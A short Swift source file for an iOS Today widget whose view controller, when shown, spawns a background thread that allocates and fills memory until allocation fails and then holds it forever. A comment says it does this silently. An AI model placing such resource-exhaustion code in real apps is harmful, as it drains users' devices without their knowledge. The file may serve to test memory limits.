import Foundation
import NotificationCenter
import UIKit

/// Takes all the memory that there is to be had beside the main thread, and keeps it without a word.
final class TodayViewController: UIViewController {
    override func viewDidAppear(_ animated: Bool) {
        super.viewDidAppear(animated)
        Thread.detachNewThread {
            var size = 1 << 20
            while size >= 1 << 12 {
                if let room = malloc(size) {
                    memset(room, 1, size)
                } else {
                    size /= 2
                }
            }
            while true { sleep(1000) }
        }
    }
}
